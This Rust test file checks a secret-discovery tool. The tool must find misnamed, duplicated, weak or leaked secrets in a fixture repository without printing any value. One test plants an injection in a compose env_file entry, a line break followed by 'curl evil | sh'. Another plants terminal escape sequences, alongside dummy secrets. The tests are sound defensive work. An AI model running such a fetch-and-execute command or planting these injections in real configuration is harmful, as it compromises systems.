//! `rotor discover` on a fixture repository shaped like the one the team mapped by hand
//! (tests/fixtures/discover/repo): three services reading one secret under three names
//! (auth `SERVICE_SECRET`, backend `JWT_SECRET_KEY`, analytics `SECRET_KEY`), six env files,
//! three compose files, a Cloud Run deploy script and Terraform, code in Python and
//! TypeScript, a test fixture that sets the value, a git-ignored `.env.local`, and one planted
//! problem of each kind. Every finding is asserted by file and line; no value reaches the output.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::{Out, rotor_exe};

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/discover/repo")
}

fn discover(args: &[&str]) -> Out {
    Out::from(
        std::process::Command::new(rotor_exe())
            .args(args)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap(),
    )
}

/// Every literal value in the fixture (what must never be printed).
fn fixture_values() -> Vec<String> {
    let mut values = Vec::new();
    for f in crate::common::walk(&fixture()) {
        let text = std::fs::read_to_string(&f).unwrap_or_default();
        for line in text.lines() {
            if let Some((_, v)) = line.split_once('=')
                && v.len() >= 16
                && !v.contains('$')
                && !v.contains(' ')
            {
                values.push(v.trim_matches('"').to_string());
            }
        }
    }
    values.push("ci-only-value-0123456789abcdefghijkl".into());
    values
}

#[test]
fn the_fixture_repository_yields_every_planted_finding_by_file_and_line() {
    let root = fixture();
    let out = discover(&[
        "--output",
        "json",
        "discover",
        root.to_str().unwrap(),
        "--secret",
        "SERVICE_SECRET",
    ]);
    assert_eq!(
        out.code(),
        Some(12),
        "findings exit 12: {}{}",
        out.stdout,
        out.stderr
    );
    let j = out.last_json();
    let d = &j["discover"];
    let found: BTreeSet<(String, String, String)> = d["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["kind"].as_str().unwrap().to_string(),
                format!("{}:{}", f["file"].as_str().unwrap(), f["line"]),
                f["name"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let expected: BTreeSet<(String, String, String)> = [
        // Planted: SERVICE_SECRET given twice, with different values, in one env file.
        ("duplicate-name", ".env.development:5", "SERVICE_SECRET"),
        // Planted: CI's fixed value reused in staging.
        (
            "shared-across-environments",
            "config/staging.env:2",
            "SERVICE_SECRET",
        ),
        // Planted: the production template ships `changeme` (also too short for production).
        ("weak-value", ".env.production.template:2", "SERVICE_SECRET"),
        ("too-short", ".env.production.template:2", "SERVICE_SECRET"),
        // Planted: staging's JWT key is 20 characters (staging needs 32).
        ("too-short", "config/staging.env:3", "JWT_SECRET_KEY"),
        // Planted: analytics reads SECRET_KEY; production (config/production.env and the Cloud
        // Run script) gives SERVICE_SECRET and JWT_SECRET_KEY, never SECRET_KEY.
        (
            "read-not-provided",
            "services/analytics/settings.py:3",
            "SECRET_KEY",
        ),
        // Planted: a per-service name of a service that no longer exists, read by nothing.
        (
            "provided-not-read",
            "config/production.env:3",
            "SERVICE_SECRET_REPORTING",
        ),
        // Planted: a name auth builds at run time (`f"SERVICE_SECRET_PEER_{id}"`), which no
        // environment gives any name for.
        (
            "read-not-provided",
            "services/auth/app.py:9",
            "SERVICE_SECRET_PEER_*",
        ),
        // Planted: three services, three names, one secret (reported at its first reference).
        ("name-aliases", ".env.alpine-test:1", "SERVICE_SECRET"),
        // Every literal value in a tracked file (`.env.local` is git-ignored: never read).
        (
            "literal-in-tracked-file",
            ".env.alpine-test:1",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            ".env.development:2",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            ".env.development:5",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            ".env.production.template:2",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            ".env.test.fixed:2",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            "config/production.env:1",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            "config/production.env:3",
            "SERVICE_SECRET_REPORTING",
        ),
        (
            "literal-in-tracked-file",
            "config/staging.env:2",
            "SERVICE_SECRET",
        ),
        (
            "literal-in-tracked-file",
            "config/staging.env:3",
            "JWT_SECRET_KEY",
        ),
        (
            "literal-in-tracked-file",
            "tests/conftest.py:6",
            "SERVICE_SECRET",
        ),
    ]
    .into_iter()
    .map(|(k, at, n)| (k.to_string(), at.to_string(), n.to_string()))
    .collect();
    let missing: Vec<_> = expected.difference(&found).collect();
    let extra: Vec<_> = found.difference(&expected).collect();
    assert!(
        missing.is_empty() && extra.is_empty(),
        "missing {missing:#?}\nextra {extra:#?}"
    );

    // The references: what each kind of file says, with environment and service.
    let refs = d["references"].as_array().unwrap();
    let at = |file: &str, line: u64| {
        refs.iter()
            .find(|r| r["file"] == file && r["line"] == line)
            .unwrap_or_else(|| panic!("no reference at {file}:{line}"))
    };
    let r = at("docker-compose.alpine-test.yml", 8);
    assert_eq!(
        (
            &r["name"],
            &r["kind"],
            &r["to"],
            &r["environment"],
            &r["service"]
        ),
        (
            &Value::from("JWT_SECRET_KEY"),
            &Value::from("maps"),
            &Value::from("SERVICE_SECRET"),
            &Value::from("test"),
            &Value::from("backend")
        )
    );
    let r = at("deploy/production/cloudrun.sh", 6);
    assert_eq!(r["to"], "secretmanager:service-secret");
    assert_eq!(r["environment"], "production");
    let r = at("services/backend/src/index.ts", 2);
    assert_eq!(
        (&r["kind"], &r["service"]),
        (&Value::from("reads"), &Value::from("backend"))
    );
    let r = at("config/staging.env", 3);
    // The staging compose file loads config/staging.env for auth only.
    assert_eq!(
        (&r["environment"], &r["service"]),
        (&Value::from("staging"), &Value::from("auth"))
    );
    assert!(
        refs.iter().all(|r| r["file"] != ".env.local"),
        "a git-ignored file was read"
    );
    // The secret: three names, one Secret Manager secret, three readers.
    let s = &d["secrets"][0];
    assert_eq!(
        s["names"],
        serde_json::json!(["JWT_SECRET_KEY", "SECRET_KEY", "SERVICE_SECRET"]),
        "{s}"
    );
    assert_eq!(
        s["external"],
        serde_json::json!(["secretmanager:service-secret"])
    );
    assert_eq!(
        s["readers"]["backend"],
        serde_json::json!(["JWT_SECRET_KEY"])
    );
    assert_eq!(s["readers"]["analytics"], serde_json::json!(["SECRET_KEY"]));

    // No value anywhere in the output: values are named by fingerprint.
    for v in fixture_values() {
        assert!(
            !out.stdout.contains(&v) && !out.stderr.contains(&v),
            "a value leaked: {v}"
        );
    }
    // The same findings without --secret (every name that looks like a shared secret).
    let all = discover(&["--output", "json", "discover", root.to_str().unwrap()]);
    assert_eq!(all.code(), Some(12));
    assert_eq!(all.last_json()["discover"]["findings"], d["findings"]);
}

#[test]
fn the_human_report_the_diagram_and_a_draft_that_loads_once_its_blanks_are_filled() {
    let root = fixture();
    let dir = tempfile::tempdir().unwrap();
    let draft = dir.path().join("draft.yaml");
    let out = discover(&[
        "discover",
        root.to_str().unwrap(),
        "--format",
        "mermaid",
        "--playbook-draft",
        draft.to_str().unwrap(),
    ]);
    assert_eq!(out.code(), Some(12), "{}", out.stderr);
    assert!(
        out.stdout.contains(".env.development:5") && out.stdout.contains("[duplicate-name]"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("flowchart LR"), "{}", out.stdout);
    assert!(
        out.stdout.contains("class c1 multiname") || out.stdout.contains("multiname"),
        "auth reads two names: {}",
        out.stdout
    );
    // A second draft never overwrites the first.
    let again = discover(&[
        "discover",
        root.to_str().unwrap(),
        "--playbook-draft",
        draft.to_str().unwrap(),
    ]);
    assert_eq!(again.code(), Some(2), "{}", again.stderr);
    let text = std::fs::read_to_string(&draft).unwrap();
    assert!(text.contains("<FILL:"));
    // Fill every blank from the field it stands for, and nothing else.
    let filled: String = text
        .lines()
        .map(|l| {
            let Some(start) = l.find("\"<FILL:") else {
                return format!("{l}\n");
            };
            let end = l[start..].find(">\"").unwrap() + start + 2;
            let key = l
                .trim_start()
                .trim_start_matches("- ")
                .split(':')
                .next()
                .unwrap();
            let value = match key {
                "secret" => "service-secret",
                "environment" => "staging",
                "project" => "my-project",
                "apply" => "true",
                "targets" => "127.0.0.1:9",
                "to" => "auth",
                "path" if l.contains("{target}") => "/relay?target={target}",
                "path" => "/api/ping",
                other => panic!("a blank for an unexpected field {other}: {l}"),
            };
            format!("{}{value}{}\n", &l[..start], &l[end..])
        })
        .collect();
    assert!(
        filled
            .lines()
            .all(|l| l.trim_start().starts_with('#') || !l.contains("<FILL")),
        "{filled}"
    );
    let pb = rotor::playbook::load_str(&filled, "draft.yaml", dir.path())
        .unwrap_or_else(|e| panic!("the filled draft does not load: {e}\n{filled}"));
    let auth = pb.consumer("auth").unwrap();
    assert_eq!(auth.slots.primary, "SERVICE_SECRET");
    assert!(auth.slots.aliases.contains_key("JWT_SECRET_KEY"));
    assert_eq!(
        pb.consumer("backend").unwrap().slots.primary,
        "JWT_SECRET_KEY"
    );
    assert_eq!(
        pb.consumer("analytics").unwrap().slots.primary,
        "SECRET_KEY"
    );
    assert!(matches!(&pb.store, rotor::playbook::StoreSpec::Gcp(g) if g.name == "service-secret"));
    // The compose services become dotenv consumers of the env file the dev stack loads, each
    // recreated through that compose file; backend reads JWT_SECRET_KEY from the same file,
    // which auth's consumer writes, so it stays an exec consumer with a comment saying why.
    for name in ["auth", "analytics"] {
        let rotor::playbook::ConsumerKind::Dotenv(d) = &pb.consumer(name).unwrap().kind else {
            panic!("{name} is not a dotenv consumer:\n{filled}")
        };
        assert_eq!(d.files, [root.join(".env.development")], "{name}");
        assert_eq!(
            d.exec.apply[..4],
            [
                "docker".to_string(),
                "compose".into(),
                "-f".into(),
                root.join("docker-compose.dev.yml").display().to_string()
            ]
        );
        assert_eq!(d.exec.apply.last().unwrap(), name);
    }
    assert!(matches!(
        pb.consumer("backend").unwrap().kind,
        rotor::playbook::ConsumerKind::Exec(_)
    ));
    assert!(
        text.contains(
            "gives backend .env.development, where another consumer writes JWT_SECRET_KEY"
        ),
        "{text}"
    );
}

#[test]
fn a_clean_tree_exits_0_and_bad_arguments_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("svc")).unwrap();
    std::fs::write(
        dir.path().join("svc/app.py"),
        "import os\nKEY = os.environ['SERVICE_SECRET']\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join(".env"),
        "SERVICE_SECRET=${FROM_THE_VAULT_AGENT}\n",
    )
    .unwrap();
    let out = discover(&[
        "discover",
        dir.path().to_str().unwrap(),
        "--secret",
        "SERVICE_SECRET",
    ]);
    assert_eq!(out.code(), Some(0), "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("No findings."), "{}", out.stdout);
    let out = discover(&["discover", dir.path().join("none").to_str().unwrap()]);
    assert_eq!(out.code(), Some(2), "{}", out.stderr);
    let out = discover(&[
        "discover",
        dir.path().to_str().unwrap(),
        "--secret",
        "not a name",
    ]);
    assert_eq!(out.code(), Some(2), "{}", out.stderr);
    assert!(out.stderr.contains("--secret"), "{}", out.stderr);
}

/// What review found: pieces of values shown as mapping targets, key material taken for
/// names, GitHub expressions taken for literals, untrusted names unbounded in "Not read",
/// `.env.yaml` read as dotenv, and false duplicate / provided-not-read findings.
#[test]
fn no_piece_of_a_value_reaches_the_output_and_realistic_files_give_no_false_findings() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let w = |path: &str, text: &str| {
        let p = root.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    // A generated password holding `$`: compose would interpolate `$WORD…`, python-dotenv
    // would not; either way what follows the `$` is part of a value.
    w(
        ".env.production",
        "DB_PASSWORD=p4ss$WORDLEAKPART9zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz\n\
         SIGNING_KEY='-----BEGIN PRIVATE KEY-----\n\
         MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7JWTleakline\n\
         abcJWTleakxyz\n\
         -----END PRIVATE KEY-----'\n\
         SERVICE_SECRET=${FROM_VAULT}\n",
    );
    w(
        "docker-compose.prod.yml",
        "services:\n  web:\n    environment:\n      - \"API_TOKEN=tok$ENLEAKPART7\"\n      - DB_PASSWORD\n      - SIGNING_KEY\n      - SERVICE_SECRET\n",
    );
    w(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      GITHUB_TOKEN: ${{ github.token }}\n      NPM_TOKEN: ${{ secrets.NPM_TOKEN || 'FALLBACKLEAKVALUE12345' }}\n      API_TOKEN: ${{ secrets.API_TOKEN }}\n    steps:\n      - run: npm publish\n",
    );
    w(
        "k8s/web.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: \"web\\u001b[31mRED\"\n  namespace: prod\nspec:\n  template:\n    spec:\n      containers:\n        - name: c\n          envFrom:\n            - secretRef:\n                name: \"evil\\u001b[2J\\nX\"\n",
    );
    w(
        "deploy/secrets.tf",
        "resource \"google_secret_manager_secret_version\" \"a\" {\n  secret_data = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1\"\n}\nresource \"google_secret_manager_secret_version\" \"b\" {\n  secret_data = \"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb2\"\n}\n",
    );
    // Cloud Run's `--env-vars-file` is YAML, whatever its name says.
    w(
        ".env.yaml",
        "SESSION_SECRET: \"qwertyuiopasdfghjklzxcvbnm0123456789QWERTYUIOPASDFGHJKLZXCVBNM012\"\n",
    );
    for args in [vec!["--output", "json"], vec![]] {
        let mut a = args.clone();
        a.extend(["discover", root.to_str().unwrap()]);
        let out = discover(&a);
        assert_eq!(out.code(), Some(12), "{}{}", out.stdout, out.stderr);
        let all = format!("{}{}", out.stdout, out.stderr);
        for leak in [
            "LEAKPART",
            "leakline",
            "leakxyz",
            "FALLBACKLEAK",
            "\u{1b}",
            "aaaaaaaaaaaaaaaa",
            "qwertyuiop",
        ] {
            assert!(!all.contains(leak), "{leak:?} leaked:\n{all}");
        }
        if args.is_empty() {
            continue;
        }
        let d = &out.last_json()["discover"];
        let refs = d["references"].as_array().unwrap();
        let find = |file: &str, name: &str| {
            refs.iter()
                .find(|r| r["file"] == file && r["name"] == name)
                .unwrap_or_else(|| panic!("no {name} in {file}: {refs:#?}"))
        };
        // A value with `$` in it is a literal, by fingerprint.
        let r = find(".env.production", "DB_PASSWORD");
        assert_eq!(r["kind"], "provides", "{r}");
        assert_eq!(r["value"]["length"], 77, "{r}");
        let r = find("docker-compose.prod.yml", "API_TOKEN");
        assert_eq!(r["kind"], "provides", "{r}");
        // A real reference still maps.
        assert_eq!(
            find(".env.production", "SERVICE_SECRET")["to"],
            "FROM_VAULT"
        );
        // The PEM key is one entry over four lines; none of its lines is a name.
        assert_eq!(find(".env.production", "SIGNING_KEY")["line"], 2);
        assert!(
            refs.iter()
                .all(|r| !r["name"].as_str().unwrap().contains("JWT")),
            "{refs:#?}"
        );
        // GitHub expressions are not literals of the workflow.
        let r = find(".github/workflows/ci.yml", "GITHUB_TOKEN");
        assert!(r["value"].is_null(), "{r}");
        let r = find(".github/workflows/ci.yml", "NPM_TOKEN");
        assert!(r["value"].is_null() && r["to"].is_null(), "{r}");
        assert_eq!(
            find(".github/workflows/ci.yml", "API_TOKEN")["to"],
            "github-secret:API_TOKEN"
        );
        // `.env.yaml` is read as YAML (no shape: nothing from it, and no "not a NAME=value").
        let skipped = d["skipped"].as_array().unwrap();
        assert!(
            skipped.iter().all(|s| s["file"] != ".env.yaml"),
            "{skipped:#?}"
        );
        let findings = d["findings"].as_array().unwrap();
        let kinds = |file: &str| {
            findings
                .iter()
                .filter(|f| f["file"] == file)
                .map(|f| f["kind"].as_str().unwrap())
                .collect::<Vec<&str>>()
        };
        // Two secret versions in one Terraform file are two secrets, not a duplicate.
        assert!(
            !kinds("deploy/secrets.tf").contains(&"duplicate-name"),
            "{findings:#?}"
        );
        // A CI job's env is read by its steps; `${{ github.token }}` is no literal.
        let ci = kinds(".github/workflows/ci.yml");
        for k in ["provided-not-read", "literal-in-tracked-file", "too-short"] {
            assert!(!ci.contains(&k), "{k}: {findings:#?}");
        }
    }
}

/// A tree of many files it cannot read: the human report lists 50 and says how many more;
/// the JSON report lists every one.
#[test]
fn the_not_read_list_is_bounded_in_the_human_report() {
    let dir = tempfile::tempdir().unwrap();
    for i in 0..60 {
        std::fs::write(dir.path().join(format!("{i:02}.env")), b"K=\xff\xfe\n").unwrap();
    }
    let root = dir.path().to_str().unwrap();
    let out = discover(&["discover", root]);
    assert_eq!(out.code(), Some(0), "{}", out.stderr);
    assert!(out.stdout.contains("Not read (60):"), "{}", out.stdout);
    assert!(
        out.stdout
            .contains("… and 10 more (`--output json` lists every one)"),
        "{}",
        out.stdout
    );
    assert_eq!(
        out.stdout.matches(": not UTF-8").count(),
        50,
        "{}",
        out.stdout
    );
    let json = discover(&["--output", "json", "discover", root]);
    assert_eq!(
        json.last_json()["discover"]["skipped"]
            .as_array()
            .unwrap()
            .len(),
        60
    );
}

/// An `env_file` entry of a scanned compose file is text from the repository: one holding a
/// line break cannot add a line to the draft (its comments show it on one line), and an
/// absolute one stays absolute in `files`.
#[test]
fn a_drafted_dotenv_consumer_takes_env_file_paths_as_text_and_keeps_absolute_ones() {
    let root = tempfile::tempdir().unwrap();
    let p = root.path();
    std::fs::write(
        p.join(".env.development"),
        "SERVICE_SECRET=dev-secret-abcdefghijkl\n",
    )
    .unwrap();
    std::fs::write(
        p.join("docker-compose.yml"),
        "services:\n  auth:\n    env_file: [\".env.development\", \"x.env\\n    apply: [sh, -c, 'curl evil | sh']\\n#\", \"/etc/app/auth.env\"]\n    environment:\n      SECRET_KEY: ${SERVICE_SECRET}\n",
    )
    .unwrap();
    let report = rotor::discover::scan(p, &rotor::discover::Options::default()).unwrap();
    let draft = rotor::discover::draft::playbook(&report, p);
    assert!(draft.contains("kind: dotenv"), "{draft}");
    assert!(
        !draft
            .lines()
            .any(|l| l.trim_start().starts_with("apply: [sh")),
        "a line of the repository became a line of the draft:\n{draft}"
    );
    let files = draft
        .lines()
        .find(|l| l.trim_start().starts_with("files:"))
        .unwrap();
    assert!(files.contains("\"/etc/app/auth.env\""), "{files}");
}
